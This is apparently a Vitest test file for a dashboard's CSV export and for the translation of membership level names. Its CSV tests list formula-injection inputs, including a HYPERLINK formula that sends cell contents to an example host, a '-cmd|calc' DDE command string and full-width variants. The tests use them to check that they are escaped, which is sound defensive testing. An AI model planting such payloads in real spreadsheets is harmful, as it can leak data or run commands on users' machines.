/** What the pages make of values: CSV files that no spreadsheet runs, and the names of levels. */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';

const SOURCES = fileURLToPath(new URL('../../client/dashboard/src/', import.meta.url));

type Translate = (key: string) => string;

// The dashboard is a page and no package that could be imported by its name: its files are named here, with the part
// of them that is looked at.
const { toCsv } = (await import(`${SOURCES}csv.ts`)) as {
  toCsv(rows: (string | number | null | undefined)[][]): string;
};
const { levelText } = (await import(`${SOURCES}i18n/level.ts`)) as {
  levelText(t: Translate, name: string | null): string;
};

describe('a CSV file', () => {
  const cellOf = (value: string) =>
    toCsv([[value]])
      .replace('\uFEFF', '')
      .replace(/\r\n$/, '');

  test.each([
    '=HYPERLINK("http://example.com/?"&A1)',
    '+886912345678',
    '-cmd|calc',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('makes a text of %j, which a spreadsheet would run', (value) => {
    expect(cellOf(value).replace(/^"/, '')).toMatch(/^'/);
  });

  test.each([['-12.50'], ['0'], ['王小明'], ['P20261122-0001'], ['a=b']])('leaves %s as it is', (value) => {
    expect(cellOf(value)).toBe(value);
  });

  test('begins with a byte order mark, ends lines with CRLF, and quotes what would break a cell', () => {
    expect(
      toCsv([
        ['名稱', '備註'],
        ['a,b', 'say "hi"\nthere'],
        [null, undefined],
      ]),
    ).toBe('\uFEFF名稱,備註\r\n"a,b","say ""hi""\nthere"\r\n,\r\n');
  });
});

describe('a level', () => {
  const textsOf = (language: string) => {
    const texts = JSON.parse(readFileSync(`${SOURCES}i18n/locales/${language}.json`, 'utf8')) as Record<string, string>;
    return (key: string) => texts[key] ?? key;
  };

  test.each([
    ['en', ['Regular', 'Silver', 'Gold', 'Diamond']],
    ['zh-CN', ['普通会员', '银卡会员', '金卡会员', '钻石会员']],
    ['zh-TW', ['普通會員', '銀卡會員', '金卡會員', '鑽石會員']],
  ] as const)('has its name in %s, by the names that the migrations give', (language, names) => {
    const folder = new URL('../../server/supabase/migrations/', import.meta.url);
    const tables = readFileSync(fileURLToPath(new URL('20261122000200_tables.sql', folder)), 'utf8');
    const given = [...tables.matchAll(/^ {2}\(\d, '([^']+)', \d+, [\d.]+\)/gm)].map(([, name]) => name);
    expect(given.map((name) => levelText(textsOf(language), name))).toEqual(names);
  });

  test('that somebody renamed keeps the name that they gave it', () => {
    expect(levelText(textsOf('en'), 'VIP')).toBe('VIP');
    expect(levelText(textsOf('en'), null)).toBe('—');
  });
});
